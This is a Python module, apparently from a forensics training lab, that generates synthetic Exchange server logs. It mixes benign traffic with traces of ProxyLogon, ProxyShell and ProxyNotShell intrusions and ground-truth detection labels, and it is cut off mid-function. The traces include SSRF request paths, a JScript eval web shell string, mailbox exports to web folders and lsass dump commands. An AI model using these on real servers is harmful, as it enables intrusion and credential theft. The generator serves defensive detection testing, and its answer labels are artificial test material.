"""What happens on the generated server: benign traffic at volume, and each attack chain's traces.

Attack traces follow the published examples line for line (reference/published-attack-examples.md:
§1a/§1b ProxyLogon HttpProxy rows, §1e the OAB cmdlets and process tree, §3d web shell use in IIS,
§4a ProxyShell requests and cmdlets, §5 ProxyNotShell/OWASSRF); benign traffic carries the
look-alikes of §6 (autodiscover.json with Protocol=, health probes, admin remote PowerShell, an OAB
temp-file cleanup inside ClientAccess\\OAB, an administrator's mailbox export to a file share).
Attacker values (addresses, agents, names, shell keys, URL spellings) vary with the seed.
"""

from __future__ import annotations

import random
import string
import uuid
from dataclasses import dataclass, field
from datetime import datetime, timedelta

from exaudit.lab.evidence_formats import DroppedFile, Event, Request, Row

INSTALL = "C:\\Program Files\\Microsoft\\Exchange Server\\V15"
INSTALL_PARTS = ("Program Files", "Microsoft", "Exchange Server", "V15")
OWA_AUTH = (*INSTALL_PARTS, "FrontEnd", "HttpProxy", "owa", "auth")
ASPNET_CLIENT = ("inetpub", "wwwroot", "aspnet_client")
BROWSER_UAS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.0.3 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36 Edg/88.0.705.81",
)
OUTLOOK_UA = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)"
EAS_UAS = ("Apple-iPhone13C2/1805.227", "Outlook-iOS/723.4027091.prod.iphone (4.2111.0)", "Android-Mail/2021.02.07.357262404")
SHELL_NAMES = ("errorEE", "OutlookEN", "supp0rt", "RedirSuiteServerProxy", "TimeoutLogout", "discover", "HttpProxy", "shell")
FIRST_NAMES = ("anna", "ben", "carla", "dmitri", "eva", "farid", "greta", "hugo", "ines", "jonas", "karin", "luca", "mia", "noah")
PUBLIC_PREFIXES = (45, 46, 89, 91, 103, 104, 139, 141, 146, 152, 159, 161, 178, 185, 188, 193, 194, 195, 212, 217)
PROBE_UA = "AMProbe/Local/ClientAccess"


@dataclass
class Site:
    """One generated Exchange server and everything logged on it."""

    rng: random.Random
    host: str
    domain: str
    build: str
    start: datetime
    end: datetime
    server_ip: str
    users: list[str]
    admin: str
    requests: list[Request] = field(default_factory=list)
    ecp: list[Row] = field(default_factory=list)
    oab: list[Row] = field(default_factory=list)
    rps_http: list[Row] = field(default_factory=list)
    rps_cmdlet: list[Row] = field(default_factory=list)
    events: list[Event] = field(default_factory=list)
    files: list[DroppedFile] = field(default_factory=list)
    truth: dict[str, object] = field(default_factory=dict)

    @property
    def fqdn(self) -> str:
        return f"{self.host.lower()}.{self.domain}"

    def upn(self, user: str) -> str:
        return f"{user}@{self.domain}"

    def internal_ip(self) -> str:
        return f"10.{self.rng.randint(1, 40)}.{self.rng.randint(0, 255)}.{self.rng.randint(2, 254)}"

    def when(self, day_start: datetime) -> datetime:
        # Office hours weigh more; milliseconds as Exchange writes them.
        hour = self.rng.choice((7, 8, 8, 9, 9, 10, 10, 11, 12, 13, 14, 14, 15, 16, 17, 18, 20, 22, 2))
        return day_start + timedelta(hours=hour, seconds=self.rng.randint(0, 3599), milliseconds=self.rng.randint(0, 999))


def attacker_ip(rng: random.Random) -> str:
    return f"{rng.choice(PUBLIC_PREFIXES)}.{rng.randint(1, 254)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def random_name(rng: random.Random, n: int = 8) -> str:
    return "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(n))


def _guid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


# --------------------------------------------------------------------------- benign


def benign_request(site: Site, ts: datetime) -> Request:
    rng, user = site.rng, site.rng.choice(site.users)
    dom_user = f"{site.domain.split('.')[0].upper()}\\{user}"
    ip = site.internal_ip()
    kind = rng.choices(
        ("owa", "ews", "mapi", "eas", "autod", "autodv2", "ecp", "ps", "probe", "oab", "static", "scanner"),
        weights=(20, 14, 18, 12, 8, 4, 3, 1, 10, 3, 5, 2),
    )[0]
    build_dir = ".".join(site.build.split(".")[:3])
    if kind == "owa":
        stem, query = rng.choice((("/owa/service.svc", "action=GetItem&EP=1&ID=-31&AC=1"), ("/owa/auth.owa", ""), ("/owa/", "")))
        return Request(ts, "POST", stem, query, dom_user, ip, rng.choice(BROWSER_UAS), rng.choice((200, 200, 302)))
    if kind == "ews":
        return Request(ts, "POST", "/EWS/Exchange.asmx", "", dom_user, ip, f"ExchangeServicesClient/{site.build}", 200)
    if kind == "mapi":
        return Request(ts, "POST", "/mapi/emsmdb/", f"MailboxId={_guid(rng)}@{site.domain}", dom_user, ip, OUTLOOK_UA, 200)
    if kind == "eas":
        query = f"Cmd=Sync&User={user}&DeviceId={random_name(rng, 12)}&DeviceType=iPhone"
        return Request(ts, "POST", "/Microsoft-Server-ActiveSync/default.eas", query, dom_user, ip, rng.choice(EAS_UAS), 200)
    if kind == "autod":
        return Request(ts, "POST", "/Autodiscover/Autodiscover.xml", "", dom_user, ip, OUTLOOK_UA, 200)
    if kind == "autodv2":  # legitimate Autodiscover v2 always names a Protocol (look-alike of ProxyShell)
        email = site.upn(user).replace("@", rng.choice(("@", "%40")))
        query = f"Email={email}&Protocol={rng.choice(('ActiveSync', 'Rest', 'EWS'))}&RedirectCount=1"
        return Request(ts, "GET", "/autodiscover/autodiscover.json", query, "", ip, rng.choice(EAS_UAS), 200)
    if kind == "ecp":  # an administrator at work in the control panel
        stem, query = rng.choice(
            (
                ("/ecp/", ""),
                ("/ecp/DDI/DDIService.svc/GetList", f"schema=MailboxService&msExchEcpCanary={random_name(rng, 40)}"),
                (f"/ecp/{build_dir}/scripts/microsoft.exchange.controlpanel.client.js", ""),
                ("/ecp/default.aspx", ""),
            )
        )
        return Request(
            ts,
            "GET" if not stem.endswith("GetList") else "POST",
            stem,
            query,
            f"{dom_user[: dom_user.index(chr(92))]}\\{site.admin}",
            ip,
            rng.choice(BROWSER_UAS),
            200,
        )
    if kind == "ps":  # remote PowerShell from the management shell (look-alike of ProxyShell/OWASSRF)
        query = (
            f"serializationLevel=Full;ExchClientVer={site.build};clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.17763.1852"
        )
        return Request(
            ts, "POST", "/powershell", query, f"{dom_user[: dom_user.index(chr(92))]}\\{site.admin}", ip, "Microsoft WinRM Client", 200
        )
    if kind == "probe":  # Managed Availability health probes
        stem = rng.choice(("/owa/HealthCheck.htm", "/ecp/HealthCheck.htm", "/EWS/HealthCheck.htm", "/mapi/HealthCheck.htm"))
        return Request(ts, "GET", stem, "", "", "127.0.0.1", PROBE_UA, 200, proxied=False)
    if kind == "oab":
        return Request(ts, "GET", f"/OAB/{_guid(rng)}/oab.xml", "", dom_user, ip, OUTLOOK_UA, 200)
    if kind == "static":  # anonymous GETs of logon page resources
        stem = rng.choice(
            (
                f"/owa/auth/{build_dir}/themes/resources/logon.css",
                "/owa/auth/logon.aspx",
                f"/owa/auth/{build_dir}/scripts/premium/flogon.js",
            )
        )
        return Request(
            ts,
            "GET",
            stem,
            "url=https%3a%2f%2fmail%2fowa%2f&reason=0" if stem.endswith(".aspx") else "",
            "",
            ip,
            rng.choice(BROWSER_UAS),
            200,
        )
    scanner_ip = attacker_ip(rng)  # internet background noise: zgrab fetching the ECP export tool manifest
    return Request(
        ts,
        "GET",
        "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
        "",
        "",
        scanner_ip,
        "Mozilla/5.0 zgrab/0.x",
        200,
    )


def benign_day(site: Site, day: datetime, volume: int) -> list[Request]:
    return sorted((benign_request(site, site.when(day)) for _ in range(volume)), key=lambda r: r.time)


def benign_background(site: Site) -> None:
    """Non-web benign activity over the whole window: ECP, OAB, remote PowerShell, events, files."""
    rng = site.rng
    days = max(1, (site.end - site.start).days)
    for d in range(days):
        day = site.start + timedelta(days=d)
        ts = site.when(day)
        site.ecp.append(
            _ecp_row(site, ts, "Get-InboxRule", "/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=" + random_name(rng, 40))
        )
        site.rps_http.append(_rps_http(site, site.when(day), site.admin, site.internal_ip(), "Microsoft WinRM Client", 200))
        site.rps_http.append(
            _rps_http(site, site.when(day), "HealthMailbox" + random_name(rng, 7), "127.0.0.1", "Exchange BackEnd Probes", 200)
        )
        site.rps_cmdlet.append(
            _cmdlet_row(site, site.when(day), "HealthMailbox" + random_name(rng, 7), "Get-Mailbox", '-ResultSize "1"', "ActiveMonitor")
        )
        site.oab.append(
            Row(
                site.when(day),
                {"Level": "Info", "OabName": "Default Offline Address Book", "Message": "OABGeneratorAssistant: processing finished"},
            )
        )
        site.events.append(
            _process_event(
                site,
                site.when(day),
                "c:\\windows\\system32\\inetsrv\\w3wp.exe",
                "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
                '"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" /noconfig /fullpaths @"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\owa\\x.cmdline"',  # noqa: E501 (a log line as written)
            )
        )
        if d % 7 == 3:
            site.events.append(_cmdlet_event(site, site.when(day), "Get-Mailbox", '-Identity "' + rng.choice(site.users) + '"'))
    mid = site.start + timedelta(days=days // 2)
    # Look-alikes: an admin setting a normal OAB URL, an OAB temp cleanup, a mailbox export to a share.
    site.ecp.append(
        _ecp_row(
            site,
            site.when(mid),
            f"Set-OabVirtualDirectory.ExternalUrl='https://mail.{site.domain}/OAB'.Identity='{_guid(rng)}'",
            "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" + random_name(rng, 40) + "&schema=OABVirtualDirectory",
        )
    )
    site.oab.append(
        Row(
            site.when(mid),
            {
                "Level": "Warning",
                "OabName": "Default Offline Address Book",
                "Message": f"Download failed and temporary file '{INSTALL}\\ClientAccess\\OAB\\Temp\\{_guid(rng)}.lzx' needs to be removed",
            },
        )
    )
    victim = rng.choice(site.users)
    site.events.append(
        _cmdlet_event(site, site.when(mid), "New-MailboxExportRequest", f'-Mailbox "{victim}" -FilePath "\\\\fs01\\pst$\\{victim}.pst"')
    )
    site.events.append(
        _process_event(
            site,
            site.when(mid),
            "c:\\windows\\system32\\inetsrv\\w3wp.exe",
            "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\cvtres.exe",
            "cvtres.exe /NOLOGO /READONLY /MACHINE:IX86",
        )
    )
    old = site.start - timedelta(days=rng.randint(90, 400))
    site.files.append(DroppedFile(("ProgramData", "McAfee", "Common Framework", "Backup", "update.zip"), b"PK\x05\x06" + b"\x00" * 18, old))
    for name in ("logon.aspx", "errorFE.aspx", "logoff.aspx"):
        stub = f'<%@ Page Language="C#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.{name[:-5].capitalize()}" %>\r\n<!DOCTYPE html>\r\n<html><body></body></html>\r\n'  # noqa: E501 (a log line as written)
        site.files.append(DroppedFile((*OWA_AUTH, name), stub.encode(), old))


# --------------------------------------------------------------------------- rows and events


def _ecp_row(site: Site, ts: datetime, cmd: str, url: str) -> Row:
    data = f"S:TIME=13;S:SID={_guid(site.rng)};S:CMD={cmd};S:REQID=;S:URL={url};S:REFERRER=;S:EX=;S:ACTID={_guid(site.rng)};S:RS=0;S:BLD={site.build};S:TNAME=<null>;S:TID=;S:USID={_guid(site.rng)};S:EDOID=;S:ACID="  # noqa: E501 (a log line as written)
    return Row(ts, {"ServerName": site.host, "EventId": "ECP.Request", "EventData": data})


def _rps_http(site: Site, ts: datetime, user: str, ip: str, client_info: str, status: int, stem: str = "/powershell") -> Row:
    return Row(
        ts,
        {
            "StartTime": ts.strftime("%Y-%m-%dT%H:%M:%S.000Z"),
            "RequestId": _guid(site.rng),
            "UrlHost": site.fqdn,
            "UrlStem": stem,
            "AuthenticationType": "Kerberos",
            "IsAuthenticated": "true",
            "AuthenticatedUser": user,
            "ClientIpAddress": ip,
            "ServerHostName": site.host,
            "FrontEndServer": site.fqdn,
            "HttpStatus": str(status),
            "SubStatus": "0",
            "Action": "Receive",
            "CommandName": "Receive",
            "SessionId": _guid(site.rng),
            "ShellId": _guid(site.rng),
            "ClientInfo": client_info,
        },
    )


def _cmdlet_row(site: Site, ts: datetime, user: str, cmdlet: str, params: str, app: str = "") -> Row:
    return Row(
        ts,
        {
            "StartTime": ts.strftime("%Y-%m-%dT%H:%M:%S.000Z"),
            "RequestId": _guid(site.rng),
            "ServerHostName": site.host,
            "ProcessId": str(site.rng.randint(2000, 30000)),
            "ProcessName": "w3wp#MSExchangePowerShellAppPool",
            "AuthenticatedUser": user,
            "IsAdmin": "False",
            "ClientApplication": app,
            "Cmdlet": cmdlet,
            "Parameters": params,
            "ExecutionResult": "Success",
        },
    )


def _cmdlet_event(site: Site, ts: datetime, cmdlet: str, params: str) -> Event:
    message = f"Cmdlet succeeded. Cmdlet {cmdlet}, parameters {params}."
    return Event(
        ts, "MSExchange Management", {"EventID": 1, "SourceName": "MSExchange CmdletLogs", "Level": "Information", "Message": message}
    )


def _process_event(site: Site, ts: datetime, parent: str, image: str, command: str) -> Event:
    return Event(
        ts,
        "Microsoft-Windows-Sysmon/Operational",
        {
            "EventID": 1,
            "SourceName": "Microsoft-Windows-Sysmon",
            "Image": image,
            "CommandLine": command,
            "ParentImage": parent,
            "ParentCommandLine": f'{parent} -ap "MSExchangeOWAAppPool" -v "v4.0" -c "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config" -a \\\\.\\pipe\\iisipm{_guid(site.rng)} -h "C:\\inetpub\\temp\\apppools\\MSExchangeOWAAppPool\\MSExchangeOWAAppPool.config" -w "" -m 0',  # noqa: E501 (a log line as written)
            "User": "NT AUTHORITY\\SYSTEM",
            "UtcTime": f"{ts:%Y-%m-%d %H:%M:%S}.{ts.microsecond // 1000:03d}",
        },
    )


def _file_event(site: Site, ts: datetime, image: str, target: str) -> Event:
    return Event(
        ts,
        "Microsoft-Windows-Sysmon/Operational",
        {"EventID": 11, "SourceName": "Microsoft-Windows-Sysmon", "Image": image, "TargetFilename": target},
    )


def chopper(key: str, container: bytes = b"") -> bytes:
    """A defanged China Chopper one-liner: the eval sits inside an ASP.NET server-side comment, so the page never runs it."""
    text = (
        '<%@ Page Language="Jscript" Debug=false%>\r\n'
        "<%-- exaudit lab sample: defanged web shell shaped like China Chopper; the server-side comment keeps it inert --%>\r\n"
        f'<%-- <%eval(Request.Item["{key}"],"unsafe");%> --%>\r\n'
    )
    return container + text.encode()


# --------------------------------------------------------------------------- attacks


@dataclass
class Attacker:
    ip: str
    ua: str
    shell: str
    key: str
    mailbox: str
    start: datetime


def new_attacker(site: Site, start: datetime, uas: tuple[str, ...]) -> Attacker:
    rng = site.rng
    shell = rng.choice((*SHELL_NAMES, random_name(rng)))
    return Attacker(
        attacker_ip(rng), rng.choice(uas), shell, random_name(rng, rng.randint(4, 10)).lower(), site.upn(rng.choice(site.users)), start
    )


def _post_exploitation(site: Site, at: datetime, pool: str, dump: bool) -> list[str]:
    """Commands through the web shell; returns the rule ids they should raise."""
    rng = site.rng
    w3wp = "c:\\windows\\system32\\inetsrv\\w3wp.exe"
    cmd = "C:\\Windows\\System32\\cmd.exe"
    recon = rng.choice(("whoami", "ipconfig /all", 'net group "Domain Admins" /domain', "nltest /domain_trusts"))
    ev = _process_event(site, at, w3wp, cmd, f'cmd /c cd /d "C:\\inetpub\\wwwroot\\aspnet_client"&{recon}&echo [S]&cd&echo [E]')
    ev.fields["ParentCommandLine"] = ev.fields["ParentCommandLine"].replace("MSExchangeOWAAppPool", pool)
    site.events.append(ev)
    rules = ["exchange-process-spawns-shell", "chopper-command-pattern"]
    if dump:
        t = at + timedelta(minutes=rng.randint(3, 40))
        target = rng.choice(("C:\\Windows\\Temp\\lsass.dmp", "C:\\root\\lsass.dmp", "C:\\ProgramData\\lsass.dmp"))
        command = rng.choice(
            (
                f"C:\\Windows\\System32\\rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump {rng.randint(500, 900)} {target} full",
                f"C:\\ProgramData\\procdump64.exe -accepteula -ma lsass.exe {target}",
            )
        )
        if rng.random() < 0.3:  # Out-Minidump style: a PowerShell script block, no telling command line
            block = f"$p = Get-Process lsass; $m = $wer.GetMethod('MiniDumpWriteDump', 'NonPublic, Static'); # -> {target}"
            fields = {"EventID": 4104, "SourceName": "Microsoft-Windows-PowerShell", "ScriptBlockText": block}
            site.events.append(Event(t, "Microsoft-Windows-PowerShell/Operational", fields))
            rules.append("lsass-minidumpwritedump-script")
            writer = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
        else:
            writer = "C:\\Windows\\System32\\rundll32.exe" if "comsvcs" in command else "C:\\ProgramData\\procdump64.exe"
            site.events.append(_process_event(site, t, cmd, writer, command))
            rules.append("lsass-dump-commandline")
        site.events.append(_file_event(site, t + timedelta(seconds=20), writer, target))
        parts = tuple(target[3:].split("\\"))
        site.files.append(DroppedFile(parts, b"MDMP\x93\xa7" + bytes(58), t + timedelta(seconds=20)))
        archive = rng.choice(("it.zip", random_name(rng, 6).lower() + ".zip", "pst.7z"))
        site.files.append(DroppedFile(("ProgramData", archive), b"PK\x05\x06" + bytes(18), t + timedelta(minutes=rng.randint(5, 90))))
        rules += ["lsass-dump-file-created", "dropped-lsass-dump"]
    return rules


def _reconnaissance(site: Site, atk: Attacker) -> None:
    """Ordinary-looking requests from the attacker's address before the exploit: only correlation finds them."""
    for i in range(site.rng.randint(1, 3)):
        t = atk.start - timedelta(minutes=site.rng.randint(2, 90), seconds=i)
        site.requests.append(Request(t, "GET", "/owa/auth/logon.aspx", "url=https%3a%2f%2fmail%2fowa%2f&reason=0", "", atk.ip, atk.ua, 200))


CRAWLER_UAS = (
    "DuckDuckBot/1.0;+(+http://duckduckgo.com/duckduckbot.html)",
    "facebookexternalhit/1.1+(+http://www.facebook.com/externalhit_uatext.php)",
    "Mozilla/5.0+(compatible;+Baiduspider/2.0;++http://www.baidu.com/search/spider.html)",
    "Mozilla/5.0+(compatible;+YandexBot/3.0;++http://yandex.com/bots)",
)


def _proxylogon_variants(site: Site, atk: Attacker, start: datetime) -> list[str]:
    """Published variations, each drawn by the seed: Volexity's crawler POSTs, the BackEndCookie form, the UM path."""
    rng, rules = site.rng, []
    if rng.random() < 0.5:
        stem = "/owa/auth/Current/themes/resources/" + rng.choice(("logon.css", "owafont_ja.css", "lgnbotl.gif", "SegoeUI-SemiBold.eot"))
        ua = rng.choice(CRAWLER_UAS).replace("+", " ")
        site.requests.append(Request(start - timedelta(seconds=40), "POST", stem, "", "", atk.ip, ua, 200, proxied=False))
        rules += ["proxylogon-post-static", "proxylogon-crawler-agent"]
    if rng.random() < 0.5:
        cookie = f"Server~{site.fqdn}/mapi/emsmdb/?~1942063431"
        site.requests.append(
            Request(start - timedelta(seconds=20), "POST", "/ecp/y.js", "", "", atk.ip, atk.ua, 200, backend_cookie=cookie)
        )
        rules.append("proxylogon-backend-cookie")
    if rng.random() < 0.5:  # CVE-2021-26857: the UM service deserialises attacker data, then runs code
        t = start + timedelta(minutes=rng.randint(1, 20))
        message = "Unhandled exception in a UM worker process: System.InvalidCastException: Unable to cast object of type 'System.Object'"
        fields = {"EventID": 1000, "SourceName": "MSExchange Unified Messaging", "Level": "Error", "Message": message}
        site.events.append(Event(t, "Application", fields))
        umw = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\UMWorkerProcess.exe"
        site.events.append(_process_event(site, t + timedelta(seconds=5), umw, "C:\\Windows\\System32\\cmd.exe", "cmd /c whoami"))
        rules += ["proxylogon-um-invalidcast", "um-worker-unexpected-child"]
    return rules


def proxylogon(site: Site, start: datetime) -> dict[str, object]:
    rng = site.rng
    atk = new_attacker(site, start, ("python-requests/2.25.1", "ExchangeServicesClient/0.0.0.0", "python-requests/2.19.1"))
    _reconnaissance(site, atk)
    be = f"{rng.choice(('a]', 'akak]', 'ab]'))}@{site.fqdn}:444"
    js = f"/ecp/{rng.choice(string.ascii_lowercase)}.js"
    canary = random_name(rng, 60)
    t = start
    steps = (
        ("/autodiscover/autodiscover.xml?#", 200),
        ("/mapi/emsmdb/?#", 200),
        ("/ecp/proxyLogon.ecp?#", 241),
        (f"/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory#", 200),
        (f"/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory#", 200),
        (f"/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}&schema=ResetOABVirtualDirectory#", 200),
    )
    for anchor, status in steps:
        t += timedelta(seconds=rng.uniform(0.3, 9))
        site.requests.append(
            Request(
                t,
                "POST",
                js,
                "",
                "",
                atk.ip,
                atk.ua,
                status,
                anchor=f"ServerInfo~{be}{anchor}",
                routing_hint="X-BEResource-Cookie",
                target=site.fqdn,
            )
        )
    shell_path = (*OWA_AUTH, f"{atk.shell}.aspx")
    script = (
        f'http://f/<script language=""JScript"" runat=""server"">function Page_Load(){{eval(Request[""{atk.key}""],""unsafe"");}}</script>'
    )
    site.ecp.append(
        _ecp_row(
            site,
            t - timedelta(seconds=2),
            f"Set-OabVirtualDirectory.ExternalUrl=''{script}''.Identity=''{_guid(rng)}''",
            f"/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory",
        )
    )
    site.events.append(
        _cmdlet_event(
            site,
            t - timedelta(seconds=2),
            "Set-OabVirtualDirectory",
            f'-ExternalUrl "http://f/<script language="JScript" runat="server">function Page_Load(){{eval(Request["{atk.key}"],"unsafe");}}</script>" -Identity "OAB (Default Web Site)"',  # noqa: E501 (a log line as written)
        )
    )
    site.events.append(
        _cmdlet_event(site, t, "Remove-OabVirtualDirectory", f'-Force "True" -Identity "{site.host}\\OAB (Default Web Site)"')
    )
    site.events.append(
        _cmdlet_event(
            site,
            t + timedelta(seconds=1),
            "New-OabVirtualDirectory",
            f'-WebSiteName "Default Web Site" -Server "{site.host}" -Role "ClientAccess" -Path "{INSTALL}\\FrontEnd\\HttpProxy\\OAB"',
        )
    )
    site.events.append(
        _file_event(site, t + timedelta(seconds=2), "c:\\windows\\system32\\inetsrv\\w3wp.exe", "C:\\" + "\\".join(shell_path))
    )
    site.files.append(DroppedFile(shell_path, chopper(atk.key), t + timedelta(seconds=2)))
    rules = _proxylogon_variants(site, atk, start)
    rules += [
        "correlated-attacker-activity",
        "proxylogon-ssrf-anchor",
        "proxylogon-ssrf-autodiscover",
        "proxylogon-reset-vdir",
        "proxylogon-chain",
        "proxylogon-ecp-js-post",
        "proxylogon-ecp-set-vdir-script",
        "oab-vdir-script-cmdlet",
        "exchange-writes-script-file",
        "webshell-request",
    ]
    if rng.random() < 0.5:  # the nmap-style probe some days before
        probe = start - timedelta(days=rng.randint(1, 3), minutes=rng.randint(0, 600))
        site.requests.append(
            Request(
                probe,
                "GET",
                "/owa/auth/x.js",
                "",
                "",
                attacker_ip(rng),
                rng.choice(BROWSER_UAS),
                500,
                anchor="ServerInfo~localhost/ecp/default.flt?",
                routing_hint="X-AnonResource-Backend-Cookie",
                target="localhost",
            )
        )
    if rng.random() < 0.5:  # the OAB generator variant of the file write (CVE-2021-26858)
        path = "C:\\inetpub\\wwwroot\\aspnet_client\\" + random_name(rng) + ".aspx"
        site.oab.append(
            Row(
                t + timedelta(minutes=3),
                {
                    "Level": "Error",
                    "OabName": "Default Offline Address Book",
                    "Message": f"Download failed and temporary file '{path}' needs to be removed",
                },
            )
        )
        rules.append("proxylogon-oab-download-failed")
    # Use of the shell, then hands on keyboard.
    use = t + timedelta(minutes=rng.randint(2, 180))
    ua = rng.choice(("antSword/v2.1", BROWSER_UAS[0]))
    for i in range(rng.randint(2, 6)):
        site.requests.append(
            Request(
                use + timedelta(seconds=i * rng.randint(5, 60)),
                "POST",
                f"/owa/auth/{atk.shell}.aspx",
                "",
                "",
                atk.ip,
                ua,
                200,
                proxied=False,
            )
        )
    rules += _post_exploitation(site, use + timedelta(seconds=30), "MSExchangeOWAAppPool", dump=True)
    return {
        "verdict": "compromised",
        "cves": ["CVE-2021-26855", "CVE-2021-27065"],
        "ips": [atk.ip],
        "user_agents": [atk.ua],
        "webshell": "C:\\" + "\\".join(shell_path),
        "rules": sorted(set(rules)),
    }


def proxyshell(site: Site, start: datetime) -> dict[str, object]:
    rng = site.rng
    atk = new_attacker(site, start, ("python-requests/2.26.0", "Python PSRP Client", BROWSER_UAS[0]))
    _reconnaissance(site, atk)
    fake = f"{random_name(rng, 5).lower()}@{random_name(rng, 6).lower()}.{rng.choice(('com', 'edu', 'net', 'flq'))}"
    at = rng.choice(("@", "%40"))
    email = f"Email=autodiscover/autodiscover.json%3F{at}{fake.split('@')[1]}"
    t = start
    for path in ("/autodiscover/autodiscover.xml?=", "/mapi/nspi/?", "/mapi/emsmdb?"):
        t += timedelta(seconds=rng.uniform(1, 20))
        site.requests.append(
            Request(t, "POST", "/autodiscover/autodiscover.json", f"{at}{fake.split('@')[1]}{path}&{email}", "", atk.ip, atk.ua, 200)
        )
    cat = random_name(rng, 120)
    for _ in range(rng.randint(3, 8)):
        t += timedelta(seconds=rng.uniform(1, 30))
        site.requests.append(
            Request(
                t,
                "POST",
                "/autodiscover/autodiscover.json",
                f"{at}{fake.split('@')[1]}/powershell/?X-Rps-CAT={cat}&{email}",
                "",
                atk.ip,
                atk.ua,
                200,
            )
        )
    share = rng.choice(("\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\", "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\"))
    shell_file = f"{random_name(rng, rng.randint(8, 14)).lower()}.aspx"
    user = atk.mailbox.split("@")[0]
    cmds = (
        ("New-ManagementRoleAssignment", f'-Role "Mailbox Import Export" -User "{atk.mailbox}"'),
        (
            "New-MailboxExportRequest",
            f'-Mailbox "{atk.mailbox}" -FilePath "{share}{shell_file}" -IncludeFolders "#Drafts#" -ContentFilter "Subject -eq \'{shell_file[:-5]}\'"',  # noqa: E501 (a log line as written)
        ),
        ("Remove-MailboxExportRequest", f'-Identity "{user}\\MailboxExport" -Confirm "False"'),
    )
    for cmdlet, params in cmds:
        t += timedelta(seconds=rng.uniform(5, 60))
        site.rps_cmdlet.append(_cmdlet_row(site, t, "NT AUTHORITY\\SYSTEM", cmdlet, params, "Remote-PowerShell-Unknown"))
        site.events.append(_cmdlet_event(site, t, cmdlet, params))
    shell_path = (*ASPNET_CLIENT, shell_file)
    write = t + timedelta(minutes=rng.randint(1, 5))
    site.events.append(
        _file_event(
            site,
            write,
            "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeMailboxReplication.exe",
            "C:\\" + "\\".join(shell_path),
        )
    )
    site.files.append(DroppedFile(shell_path, chopper(atk.key, container=b"!BDN" + bytes(60)), write))
    use = write + timedelta(minutes=rng.randint(1, 60))
    query = rng.choice(("", "", "cmd=whoami", "exec_code=cmd+%2Fc+ipconfig", "cmd=powershell+-enc+SQBFAFgA"))
    method = "GET" if query else "POST"
    for i in range(rng.randint(2, 5)):
        site.requests.append(
            Request(use + timedelta(seconds=i * 20), method, f"/aspnet_client/{shell_file}", query, "", atk.ip, atk.ua, 200, proxied=False)
        )
    rules = ["webshell-command-query"] if query else []
    if rng.random() < 0.4:  # the DER-headed variant: a certificate request written as a page (Sigma)
        params = f'-GenerateRequest "True" -RequestFile "{share}{random_name(rng).lower()}.aspx" -SubjectName "CN={random_name(rng)}" -BinaryEncoded "True"'  # noqa: E501 (a log line as written)
        site.events.append(_cmdlet_event(site, write + timedelta(minutes=3), "New-ExchangeCertificate", params))
        rules.append("cert-request-to-web")
    rules += [
        "correlated-attacker-activity",
        "proxyshell-autodiscover-ssrf",
        "import-export-role-assigned",
        "mailbox-export-to-web",
        "exchange-writes-script-file",
        "webshell-request",
    ]
    rules += _post_exploitation(site, use + timedelta(seconds=10), "MSExchangeOWAAppPool", dump=rng.random() < 0.5)
    return {
        "verdict": "compromised",
        "cves": ["CVE-2021-34473", "CVE-2021-34523", "CVE-2021-31207"],
        "ips": [atk.ip],
        "user_agents": [atk.ua],
        "webshell": "C:\\" + "\\".join(shell_path),
        "rules": sorted(set(rules)),
    }


def proxynotshell(site: Site, start: datetime) -> dict[str, object]:
    rng = site.rng
    atk = new_attacker(site, start, ("python-requests/2.28.1", BROWSER_UAS[1]))
    user = f"{site.domain.split('.')[0].upper()}\\{rng.choice(site.users)}"
    spelled = rng.choice(("powershell", "PowerShell", "%50owershell", "%2570owershell"))
    t = start
    for _ in range(rng.randint(3, 7)):
        t += timedelta(seconds=rng.uniform(1, 15))
        query = f"@{random_name(rng, 5).lower()}.com/{spelled}/?&Email=autodiscover/autodiscover.json%3F@{random_name(rng, 5).lower()}.com"
        site.requests.append(Request(t, "POST", "/autodiscover/autodiscover.json", query, user, atk.ip, atk.ua, 200))
    shell_file = rng.choice(("pxh4HG1v.ashx", "Xml.ashx", "errorEE.aspx", random_name(rng) + ".ashx"))
    shell_path = (*OWA_AUTH, shell_file)
    write = t + timedelta(minutes=rng.randint(1, 10))
    site.events.append(_file_event(site, write, "c:\\windows\\system32\\inetsrv\\w3wp.exe", "C:\\" + "\\".join(shell_path)))
